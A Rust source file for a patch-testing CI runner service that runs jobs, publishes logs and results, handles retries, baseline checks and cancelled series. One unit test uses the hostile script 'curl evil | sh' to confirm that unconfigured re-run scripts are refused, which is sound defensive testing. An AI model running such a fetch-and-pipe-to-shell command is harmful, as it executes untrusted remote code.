//! The runner service: jobs in, `ci.test.started`, `ci.test.log` chunks and
//! `ci.test.finished` out.

use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use patchbay_bus::{Outgoing, Publisher};
use patchbay_model::{
    BaseUsed, Body, Envelope, FailureKind, Outcome, SeriesMerged, SeriesSuperseded, TestCancelled, TestFinished, TestJob, TestLog,
    TestStarted,
};
use patchbay_runner::{Failure, Job, Limits, Runner};
use patchbay_runtime::{Handler, HandlerError};
use tokio::sync::Semaphore;

/// Bytes of log per `ci.test.log` message.
const LOG_CHUNK: usize = 64 << 10;
/// Bytes of log in `ci.test.finished` (the tail, where errors are).
const EXCERPT: usize = 16 << 10;

/// The topic suffix jobs for `test` on `arch` are published under.
pub fn job_topic(test: &str, arch: &str) -> String {
    format!("ci.job.{test}.{arch}.queued")
}

/// The durable queue runners of `test` on `arch` compete on.
pub fn job_queue(test: &str, arch: &str) -> String {
    format!("ci-job.{test}.{arch}")
}

/// Series versions this runner has heard are done (superseded or merged), each with why,
/// newest kept (bounded).
#[derive(Default)]
struct Superseded {
    by: std::collections::HashMap<i64, String>,
    order: std::collections::VecDeque<i64>,
}

/// Series remembered as superseded; older ones are forgotten (their jobs are long gone).
const SUPERSEDED_KEPT: usize = 100_000;

impl Superseded {
    fn insert(&mut self, series: i64, why: String) {
        if self.by.insert(series, why).is_none() {
            self.order.push_back(series);
            if self.order.len() > SUPERSEDED_KEPT
                && let Some(old) = self.order.pop_front()
            {
                self.by.remove(&old);
            }
        }
    }
}

/// What a base run is known by: a digest (SHA-256, hex) of the repository, the base commit,
/// the test and arch, and the test's definition (script, limits, dependencies), so a changed
/// test is run on the base again. Runners share base runs by it (see [`BaselineListener`]).
type BaseKey = String;

/// The [`BaseKey`] of `job`'s test on base `commit`.
fn base_key(job: &TestJob, commit: &str) -> BaseKey {
    use sha2::Digest as _;
    let definition = format!("{:?} {:?} {:?}", job.script, job.limits, job.dependencies);
    let mut h = sha2::Sha256::new();
    for part in [job.repository.as_str(), commit, &job.test, &job.arch, &definition] {
        h.update(part.as_bytes());
        h.update([0]);
    }
    h.finalize().iter().map(|b| format!("{b:02x}")).collect()
}

/// The base runs this runner knows, by [`BaseKey`]: its own (jobs waiting on the same base
/// share the one run) and other runners' (heard by the [`BaselineListener`]).
type Bases = Arc<std::sync::Mutex<std::collections::HashMap<BaseKey, Arc<tokio::sync::OnceCell<bool>>>>>;

/// Base runs remembered before the table is cleared (each is one bool).
const BASES_KEPT: usize = 10_000;

/// The most re-runs a test's failure may get (`retries`): more hides a broken test.
pub const MAX_RETRIES: u32 = 5;

/// The topic suffix a runner announces a base run on (body `patchbay.json` v1: `test`, `arch`,
/// `commit`, `fails`, `job`, the series job that asked, `repository`, and `key`, the run's
/// [`BaseKey`]): within its role; every runner's [`BaselineListener`] hears it, so one run
/// serves every runner.
pub const BASELINE_TOPIC: &str = "ci.test.baseline";

/// The runner service; one instance serves every queue this runner can take.
pub struct RunnerService {
    runner: Runner,
    publisher: Publisher,
    slots: Arc<Semaphore>,
    max_attempts: u32,
    superseded: Arc<std::sync::Mutex<Superseded>>,
    running: Arc<std::sync::Mutex<std::collections::BTreeSet<String>>>,
    /// Whether a test fails on a base alone, run once per [`BaseKey`] among the runners that
    /// hear each other's announcements.
    bases: Bases,
    /// The configured scripts by (project, test): a re-run another runner queued must run
    /// exactly one of them (a runner's key may not queue scripts of its own).
    scripts: std::collections::HashMap<(String, String), Option<String>>,
}

/// Removes a job from the running set when its handling ends, however it ends.
struct Running<'a>(&'a std::sync::Mutex<std::collections::BTreeSet<String>>, String);

impl Drop for Running<'_> {
    fn drop(&mut self) {
        self.0.lock().unwrap().remove(&self.1);
    }
}

/// Tells a runner which series versions are done: superseded (`series.series.superseded`) or
/// merged upstream (`series.series.merged`), so it sets their pending jobs aside instead of
/// running them. Subscribe it to both topics ([`SupersededListener::TOPICS`]).
pub struct SupersededListener {
    superseded: Arc<std::sync::Mutex<Superseded>>,
}

impl SupersededListener {
    /// The topic suffixes it handles.
    pub const TOPICS: [&'static str; 2] = [SeriesSuperseded::TOPIC, SeriesMerged::TOPIC];
}

#[async_trait]
impl Handler for SupersededListener {
    async fn handle(&self, envelope: &Envelope, _attempt: u32) -> Result<(), HandlerError> {
        let (series, why) = if envelope.schema.name == SeriesMerged::SCHEMA {
            let m = patchbay_runtime::decode::<SeriesMerged>(envelope)?;
            let last = m.commits.last().map_or("", |c| &c[..c.len().min(12)]).to_string();
            (m.series.id, format!("merged upstream in {} ({last})", m.branch))
        } else {
            let s = patchbay_runtime::decode::<SeriesSuperseded>(envelope)?;
            (s.series.id, format!("superseded by v{}", s.by_version))
        };
        self.superseded.lock().unwrap().insert(series, why);
        Ok(())
    }
}

/// `key`'s entry in `bases`, made when missing (the table is cleared past [`BASES_KEPT`]).
fn base_cell(bases: &Bases, key: &str) -> Arc<tokio::sync::OnceCell<bool>> {
    let mut bases = bases.lock().unwrap();
    if bases.len() >= BASES_KEPT {
        bases.clear();
    }
    bases.entry(key.to_string()).or_default().clone()
}

/// Hears the base runs every runner announces ([`BASELINE_TOPIC`]) and keeps their answers,
/// so a test is run on one base once among runners, not once per runner. Only a runner may
/// publish the topic (its role), and only answers for the (test, arch) queues this runner
/// serves are kept: runners sharing a queue are interchangeable (a job's result never depended
/// on which of them took it), so a base run by one stands for all of them, and a runner of
/// another arch or queue cannot excuse this one's failures.
pub struct BaselineListener {
    bases: Bases,
    serves: std::collections::HashSet<(String, String)>,
}

#[async_trait]
impl Handler for BaselineListener {
    async fn handle(&self, envelope: &Envelope, _attempt: u32) -> Result<(), HandlerError> {
        let body = &envelope.body;
        // An announcement from before keys were shared names no key: nothing to keep.
        let (Some(key), Some(fails)) = (body["key"].as_str(), body["fails"].as_bool()) else { return Ok(()) };
        let queue = (body["test"].as_str().unwrap_or_default().to_string(), body["arch"].as_str().unwrap_or_default().to_string());
        if !self.serves.contains(&queue) {
            return Ok(());
        }
        // Already known, or being run here right now: that answer stands.
        let _ = base_cell(&self.bases, key).set(fails);
        Ok(())
    }
}

impl RunnerService {
    /// A runner with `jobs` slots: give [`RunnerService::slots`] to every queue's `ServiceSpec`,
    /// so a job is taken from a queue only while a slot is free (prefetch follows the free slots).
    pub fn new(runner: Runner, publisher: Publisher, jobs: u16, max_attempts: u32) -> Self {
        RunnerService {
            runner,
            publisher,
            slots: Arc::new(Semaphore::new(jobs.max(1) as usize)),
            max_attempts,
            superseded: Default::default(),
            running: Default::default(),
            bases: Default::default(),
            scripts: Default::default(),
        }
    }

    /// The projects' test scripts by (project, test), as configured here; re-runs queued by
    /// runners are checked against them.
    pub fn scripts(mut self, scripts: std::collections::HashMap<(String, String), Option<String>>) -> Self {
        self.scripts = scripts;
        self
    }

    fn bad_retry(&self, job: &TestJob) -> Option<String> {
        retry_refusal(&self.scripts, job)
    }

    /// Whether `job`'s test fails on `commit` alone, the series left out: run once per base and
    /// test definition, announced on [`BASELINE_TOPIC`]; `None` when it could not be run (then
    /// nothing is cached, and the series' failure counts).
    async fn base_fails(&self, job: &TestJob, commit: &str) -> Option<bool> {
        // The base with the series' dependencies (`Based-on:`): the tree the series goes onto.
        let key = base_key(job, commit);
        let cell = base_cell(&self.bases, &key);
        let run = || async {
            let base = Job {
                repository: job.repository.clone(),
                branch: job.branch.clone(),
                base_commit: Some(commit.to_string()),
                dependencies: job.dependencies.iter().map(|d| d.clone().into_bytes()).collect(),
                mbox: Vec::new(),
                script: job.script.clone(),
                limits: limits(job),
                date: None,
                tree: None,
                remotes: job.remotes.clone(),
                per_patch: false,
            };
            tracing::info!(job = %job.job, commit, test = %job.test, "Running the test on the base alone.");
            let report = self.runner.run(&base).await.map_err(|e| e.to_string())?;
            if report.base.commit != commit {
                return Err(format!("the base {commit} was not found; {} was used", report.base.commit));
            }
            let fails = report.test.as_ref().ok_or("the base alone ran no test")?.failure.is_some();
            let body = serde_json::json!({
                "job": job.job, "test": job.test, "arch": job.arch, "commit": commit, "fails": fails,
                "repository": job.repository, "key": key,
            });
            let out = self.publisher.free_form(BASELINE_TOPIC, body).map_err(|e| e.to_string())?;
            if let Err(error) = self.publisher.bus().publish(vec![out]).await {
                tracing::warn!(%error, "The base run was not announced.");
            }
            Ok::<bool, String>(fails)
        };
        match cell.get_or_try_init(run).await {
            Ok(fails) => Some(*fails),
            Err(error) => {
                tracing::warn!(job = %job.job, %error, "The test could not be run on the base alone; the failure counts.");
                None
            }
        }
    }

    /// The re-run of a failed job, on the retry topic its queue binds, for another runner first.
    fn again(&self, job: &TestJob) -> Result<Outgoing, HandlerError> {
        let again = TestJob { retry: job.retry + 1, avoid: Some(self.publisher.sender().instance.clone()), ..job.clone() };
        let topic = self
            .publisher
            .root()
            .topic(&patchbay_model::retry_topic(&job.test, &job.arch))
            .map_err(|e| HandlerError::Permanent(e.to_string()))?;
        let body = serde_json::to_value(&again).map_err(|e| HandlerError::Permanent(e.to_string()))?;
        Ok(Outgoing { sender: self.publisher.sender().clone(), topic, schema: TestJob::schema_ref(), body })
    }

    /// The jobs running now, for heartbeats.
    pub fn running(&self) -> Vec<String> {
        self.running.lock().unwrap().iter().cloned().collect()
    }

    /// The handler for other runners' base runs ([`BASELINE_TOPIC`]) of the (test, arch) queues
    /// in `serves`: run it on a queue of this runner's own, so a base another runner of the
    /// same queue ran is not run here again.
    pub fn baseline_listener(&self, serves: impl IntoIterator<Item = (String, String)>) -> BaselineListener {
        BaselineListener { bases: self.bases.clone(), serves: serves.into_iter().collect() }
    }

    /// The handler for `series.series.superseded`: run it on a queue of this runner's own to
    /// cancel superseded versions' jobs that have not started.
    pub fn superseded_listener(&self) -> SupersededListener {
        SupersededListener { superseded: self.superseded.clone() }
    }

    /// The job slots, shared by all of this runner's queues.
    pub fn slots(&self) -> Arc<Semaphore> {
        self.slots.clone()
    }

    fn out<B: Body>(&self, body: &B) -> Result<Outgoing, HandlerError> {
        self.publisher.outgoing(body).map_err(|e| HandlerError::Permanent(e.to_string()))
    }

    async fn publish(&self, messages: Vec<Outgoing>) -> Result<(), HandlerError> {
        self.publisher.bus().publish(messages).await.map(|_| ()).map_err(|e| HandlerError::Transient(e.to_string()))
    }

    fn finished(job: &TestJob, outcome: Outcome, reason: Option<FailureKind>) -> TestFinished {
        TestFinished {
            job: job.job.clone(),
            series: job.series.clone(),
            test: job.test.clone(),
            arch: job.arch.clone(),
            required: job.required,
            outcome,
            reason,
            failed_patch: None,
            duration_ms: 0,
            base: None,
            excerpt: String::new(),
            log_bytes: 0,
            retrying: false,
            pre_existing: false,
            round: job.round,
            recheck: job.recheck.clone(),
        }
    }
}

/// Why a re-run another runner queued is not one to take, if it is not: a retry beyond the
/// test's `retries`, or a script other than the one configured for (project, test).
fn retry_refusal(scripts: &std::collections::HashMap<(String, String), Option<String>>, job: &TestJob) -> Option<String> {
    if job.retry == 0 || job.retry > job.retries || job.retries > MAX_RETRIES {
        return Some(format!("re-run {} of {} is not a re-run a test may have (at most {MAX_RETRIES})", job.retry, job.retries));
    }
    match scripts.get(&(job.series.project.clone(), job.test.clone())) {
        Some(script) if *script == job.script => None,
        Some(_) => Some(format!("its script is not the one configured for {} {}", job.series.project, job.test)),
        None => Some(format!("{} {} is not a test configured here", job.series.project, job.test)),
    }
}

/// A job's limits as the runner takes them.
fn limits(job: &TestJob) -> Limits {
    Limits {
        wall: Duration::from_secs(job.limits.wall_secs),
        memory_bytes: job.limits.memory_mib << 20,
        processes: job.limits.processes,
        file_size_bytes: job.limits.file_size_mib << 20,
        output_bytes: (job.limits.output_kib << 10) as usize,
    }
}

fn tail(text: &str, max: usize) -> String {
    if text.len() <= max {
        return text.to_string();
    }
    let mut start = text.len() - max;
    while !text.is_char_boundary(start) {
        start += 1;
    }
    format!("[...]\n{}", &text[start..])
}

/// The reason of a result whose series is already in the branch (outcome INFO): nothing was
/// tested, and `patchbay-verdict` decides the series MERGED on the `apply` job's. The word is
/// `model`'s; this name stays for callers.
pub const ALREADY_MERGED: FailureKind = FailureKind::AlreadyMerged;

/// What a result of a series already in `branch` says: one line per patch, `n/N already merged as <commit> <subject>`.
fn merged_text(branch: &str, merged: &[patchbay_runner::Merged]) -> String {
    let mut text = format!("Every patch of the series is already in branch {branch} (the same change by git patch-id --stable):\n");
    for m in merged {
        let short = &m.commit[..m.commit.len().min(12)];
        text.push_str(&format!("  {}/{} already merged as {short} {}\n", m.patch, merged.len(), m.subject));
    }
    text
}

/// The line the runner (`git::Worktree::am`) writes between `git am`'s messages and the failing patch's diff.
const PATCH_MARKER: &str = "\n--- the patch that failed ---\n";

/// The excerpt of a log of `git am` that failed: git's messages (which patch, which file)
/// are always in it, then as much of the failing patch's diff as fits, from its start.
/// The plain tail lost them whenever the rejected diff was longer than the excerpt.
fn apply_excerpt(log: &str, max: usize) -> String {
    let Some(at) = log.find(PATCH_MARKER).filter(|_| log.len() > max) else { return tail(log, max) };
    let messages = tail(&log[..at], max / 4);
    let diff = &log[at + PATCH_MARKER.len()..];
    let room = max.saturating_sub(messages.len() + PATCH_MARKER.len() + "\n[...]\n".len());
    let mut end = room.min(diff.len());
    while !diff.is_char_boundary(end) {
        end -= 1;
    }
    let cut = if end < diff.len() { "\n[...]\n" } else { "" };
    format!("{messages}{PATCH_MARKER}{}{cut}", &diff[..end])
}

#[async_trait]
impl Handler for RunnerService {
    async fn handle(&self, envelope: &Envelope, attempt: u32) -> Result<(), HandlerError> {
        let job: TestJob = patchbay_runtime::decode::<TestJob>(envelope)?;
        if attempt > self.max_attempts {
            let reason = format!("the job was delivered {attempt} times; it keeps stopping runners");
            let msg = self.out(&Self::finished(&job, Outcome::Error, Some(FailureKind::Other(reason.clone()))))?;
            self.publish(vec![msg]).await?;
            return Err(HandlerError::Permanent(reason));
        }
        if envelope.topic.as_str().ends_with(".requeued")
            && let Some(why) = self.bad_retry(&job)
        {
            tracing::warn!(job = %job.job, sender = %envelope.sender, %why, "A re-queued job refused.");
            return Err(HandlerError::Permanent(format!("re-queued job refused: {why}")));
        }
        if attempt == 1 && self.max_attempts > 1 && job.avoid.as_deref() == Some(self.publisher.sender().instance.as_str()) {
            // A re-run of this runner's own failure: another runner may take it meanwhile;
            // when none does, it comes back here and runs.
            tracing::info!(job = %job.job, retry = job.retry, "A re-run of this runner's failure: left a moment for another runner.");
            return Err(HandlerError::Transient("a re-run, offered to another runner first".into()));
        }
        let done = self.superseded.lock().unwrap().by.get(&job.series.id).cloned();
        if let Some(reason) = done {
            tracing::info!(job = %job.job, %reason, "Job cancelled: its series is done.");
            let cancelled =
                TestCancelled { job: job.job.clone(), series: job.series.clone(), test: job.test.clone(), arch: job.arch.clone(), reason };
            self.publish(vec![self.out(&cancelled)?]).await?;
            return Ok(());
        }
        self.running.lock().unwrap().insert(job.job.clone());
        let _running = Running(&self.running, job.job.clone());
        let started_at = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_nanos()).unwrap_or(0);
        let started =
            TestStarted { job: job.job.clone(), series: job.series.clone(), test: job.test.clone(), arch: job.arch.clone(), attempt };
        self.publish(vec![self.out(&started)?]).await?;
        tracing::info!(job = %job.job, attempt, "Job started.");

        let run = Job {
            repository: job.repository.clone(),
            branch: job.branch.clone(),
            base_commit: job.base_commit.clone(),
            dependencies: job.dependencies.iter().map(|d| d.clone().into_bytes()).collect(),
            mbox: patchbay_model::mbox_bytes(&job.mbox, job.mbox_base64.as_deref()),
            script: job.script.clone(),
            limits: limits(&job),
            date: job.date,
            tree: job.tree.clone(),
            remotes: job.remotes.clone(),
            per_patch: job.per_patch,
        };
        let mut result = Self::finished(&job, Outcome::Error, None);
        let mut log = String::new();
        let mut applied = true;
        let running = patchbay_metrics::JobRunning::start();
        let ran = self.runner.run(&run).await;
        drop(running);
        match ran {
            Err(error) if attempt < self.max_attempts => {
                // Probably passing (a git server down, a busy disk): the runtime retries with backoff.
                tracing::warn!(job = %job.job, attempt, %error, "Job could not run; will retry.");
                return Err(HandlerError::Transient(error.to_string()));
            }
            Err(error) => {
                tracing::warn!(job = %job.job, %error, "Job could not run.");
                result.reason = Some(FailureKind::Other(error.to_string()));
                log = error.to_string();
            }
            Ok(report) => {
                applied = report.apply.ok;
                result.duration_ms = report.duration.as_millis() as u64;
                result.base = Some(BaseUsed { commit: report.base.commit.clone(), reason: report.base.reason.clone() });
                if !report.merged.is_empty() {
                    // Not a failure of the series: it is in the tree already, and nothing was tested.
                    result.outcome = Outcome::Info;
                    result.reason = Some(FailureKind::AlreadyMerged);
                    let said = merged_text(&job.branch, &report.merged);
                    log = format!("{said}\n{}", report.apply.output);
                    applied = true;
                    result.excerpt = said;
                } else if job.test == patchbay_model::APPLY_TEST {
                    log = report.apply.output.clone();
                    if report.apply.ok {
                        result.outcome = Outcome::Passed;
                    } else {
                        result.outcome = Outcome::Failed;
                        result.reason = Some(FailureKind::Apply);
                        result.failed_patch = report.apply.failed_patch.clone();
                    }
                } else if !report.apply.ok {
                    result.reason = Some(FailureKind::SeriesDoesNotApply);
                    log = report.apply.output.clone();
                } else if let Some(test) = &report.test {
                    log = String::from_utf8_lossy(&test.output).into_owned();
                    match test.failure {
                        None => result.outcome = Outcome::Passed,
                        Some(f) => {
                            result.outcome = Outcome::Failed;
                            result.reason = Some(match f {
                                Failure::Failed => FailureKind::Failed,
                                Failure::Timeout => FailureKind::Timeout,
                                Failure::Memory => FailureKind::Memory,
                            });
                            if f == Failure::Failed && test.hit_process_limit {
                                log.push_str(&format!("\n[patchbay: the process limit ({}) was reached]\n", job.limits.processes));
                            }
                            if let Some(b) = &report.broke_at {
                                result.failed_patch = Some(format!("{}/{} {}", b.patch, b.total, b.subject));
                                log.push_str(&format!(
                                    "\n[patchbay: first failed after patch {}/{} {}; the series is not bisectable]\n",
                                    b.patch, b.total, b.subject
                                ));
                            }
                        }
                    }
                } else {
                    result.outcome = Outcome::Passed;
                }
            }
        }
        // A failure of the test itself (not of apply, the runner or the series applying) may be
        // run again, or checked on the base alone.
        let test_failure = job.test != patchbay_model::APPLY_TEST
            && result.outcome == Outcome::Failed
            && matches!(result.reason, Some(FailureKind::Failed | FailureKind::Timeout | FailureKind::Memory));
        let mut again = None;
        if test_failure && job.retry < job.retries {
            result.retrying = true;
            log.push_str(&format!(
                "\n[patchbay: failed; run again ({} of {} re-runs), on another runner when one can take it]\n",
                job.retry + 1,
                job.retries
            ));
            again = Some(self.again(&job)?);
        } else if test_failure && job.baseline {
            let commit = result.base.as_ref().map(|b| b.commit.clone());
            let short = |c: &str| c[..c.len().min(12)].to_string();
            match commit {
                Some(commit) => match self.base_fails(&job, &commit).await {
                    Some(true) => {
                        result.pre_existing = true;
                        log.push_str(&format!(
                            "\n[patchbay: the base alone ({}) fails this test too: a pre-existing failure, not counted against the series]\n",
                            short(&commit)
                        ));
                    }
                    Some(false) => {
                        log.push_str(&format!("\n[patchbay: the base alone ({}) passes this test: the failure is new]\n", short(&commit)))
                    }
                    None => log.push_str("\n[patchbay: the base alone could not be tested; the failure counts]\n"),
                },
                None => log.push_str("\n[patchbay: no base known; the failure counts]\n"),
            }
        }
        if result.excerpt.is_empty() {
            result.excerpt = if applied { tail(&log, EXCERPT) } else { apply_excerpt(&log, EXCERPT) };
        }
        result.log_bytes = log.len() as u64;
        // Log chunks and the result in one publish: the result never arrives without its log.
        let mut messages = Vec::new();
        let bytes = log.as_bytes();
        let chunks: Vec<&[u8]> = if bytes.is_empty() { vec![&[][..]] } else { bytes.chunks(LOG_CHUNK).collect() };
        let n = chunks.len();
        let run = envelope.id.to_string() + "-" + &attempt.to_string() + "-" + &started_at.to_string();
        for (i, chunk) in chunks.into_iter().enumerate() {
            let text = String::from_utf8_lossy(chunk).into_owned();
            messages.push(self.out(&TestLog { job: job.job.clone(), run: run.clone(), index: i as u32, last: i + 1 == n, text })?);
        }
        messages.push(self.out(&result)?);
        // The re-run goes out with the failure it follows, or neither does.
        messages.extend(again);
        self.publish(messages).await?;
        tracing::info!(job = %job.job, outcome = %result.outcome, reason = ?result.reason, "Job finished.");
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tails_cut_on_char_boundaries() {
        assert_eq!(tail("short", 10), "short");
        let t = tail("ééééé", 3);
        assert!(t.ends_with('é') && t.starts_with("[...]"));
    }

    #[test]
    fn an_apply_excerpt_keeps_gits_messages_and_the_start_of_the_diff() {
        let messages = "Applying: one\nCONFLICT (content): Merge conflict in a.c\nPatch failed at 0002 two\n";
        let diff = format!("diff --git a/a.c b/a.c\n@@ -1 +1 @@\n{}", "+é long line\n".repeat(3000));
        let log = format!("{messages}{PATCH_MARKER}{diff}");
        let e = apply_excerpt(&log, EXCERPT);
        assert!(e.len() <= EXCERPT, "{}", e.len());
        assert!(e.starts_with(messages) && e.contains("Patch failed at 0002 two"), "{}", &e[..200]);
        assert!(e.contains(&format!("{PATCH_MARKER}diff --git a/a.c b/a.c\n@@ -1 +1 @@\n")) && e.ends_with("\n[...]\n"));
        // What fits is left alone, and a log without the diff is tailed as before.
        assert_eq!(apply_excerpt(&log[..500], EXCERPT), &log[..500]);
        assert_eq!(apply_excerpt(&"x".repeat(EXCERPT + 10), EXCERPT), tail(&"x".repeat(EXCERPT + 10), EXCERPT));
    }

    #[test]
    fn a_re_run_queued_by_a_runner_must_be_a_configured_test_within_its_retries() {
        let job: TestJob = serde_json::from_value(serde_json::json!({
            "job": "7-v1-build-x86_64", "test": "build", "arch": "x86_64", "capabilities": [], "required": true,
            "series": {"id": 7, "project": "net", "name": "x", "submitter": "a@b", "version": 1, "total": 1},
            "repository": "r", "branch": "main", "base_commit": null, "dependencies": [], "mbox": "", "script": "make",
            "limits": {"wall_secs": 1, "memory_mib": 1, "processes": 1, "file_size_mib": 1, "output_kib": 1},
            "retries": 2, "retry": 1
        }))
        .unwrap();
        let scripts: std::collections::HashMap<(String, String), Option<String>> =
            [(("net".to_string(), "build".to_string()), Some("make".to_string()))].into();
        assert_eq!(retry_refusal(&scripts, &job), None);
        let evil = TestJob { script: Some("curl evil | sh".into()), ..job.clone() };
        assert!(retry_refusal(&scripts, &evil).unwrap().contains("not the one configured"));
        assert!(retry_refusal(&scripts, &TestJob { retry: 3, ..job.clone() }).is_some(), "beyond its retries");
        assert!(retry_refusal(&scripts, &TestJob { retries: 50, retry: 9, ..job.clone() }).is_some());
        assert!(retry_refusal(&scripts, &TestJob { retry: 0, ..job.clone() }).is_some(), "a first run is the dispatcher's");
        assert!(retry_refusal(&Default::default(), &job).unwrap().contains("not a test configured here"));
    }

    #[test]
    fn topics_and_queues() {
        assert_eq!(job_topic("build", "x86_64"), "ci.job.build.x86_64.queued");
        assert_eq!(job_queue("build", "x86_64"), "ci-job.build.x86_64");
    }
}
